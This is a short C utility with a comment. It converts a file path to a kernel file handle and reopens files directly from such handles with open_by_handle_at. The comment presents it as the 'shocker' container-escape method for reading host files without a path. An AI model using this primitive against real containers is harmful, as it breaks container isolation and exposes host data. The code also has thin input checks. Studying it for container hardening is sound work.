/* handle make FILE: print a file's handle, the number by which its file system knows it.
   handle read HANDLE: open the file by its handle, wherever its path is, and print it.

   Handles can be guessed, so whoever may open them needs no path to a file (the "shocker" way
   out of a container): all it takes is any descriptor on the same file system, here that of /. */

#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    struct { struct file_handle head; unsigned char bytes[MAX_HANDLE_SZ]; } handle;
    char text[4096];
    int mount;
    if (argc == 3 && !strcmp(argv[1], "make")) {
        handle.head.handle_bytes = MAX_HANDLE_SZ;
        if (name_to_handle_at(AT_FDCWD, argv[2], &handle.head, &mount, 0)) {
            perror("name_to_handle_at");
            return 1;
        }
        printf("%d:", handle.head.handle_type);
        for (unsigned i = 0; i < handle.head.handle_bytes; i++)
            printf("%02x", handle.head.f_handle[i]);
        putchar('\n');
        return 0;
    }
    char *hex = strchr(argv[2], ':') + 1;
    handle.head.handle_type = atoi(argv[2]);
    handle.head.handle_bytes = strlen(hex) / 2;
    for (unsigned i = 0, byte; sscanf(hex + 2 * i, "%2x", &byte) == 1; i++)
        handle.head.f_handle[i] = byte;
    int file = open_by_handle_at(open("/", O_RDONLY), &handle.head, O_RDONLY);
    if (file < 0) {
        perror("open_by_handle_at");
        return 1;
    }
    return write(1, text, read(file, text, sizeof text)) < 0;
}
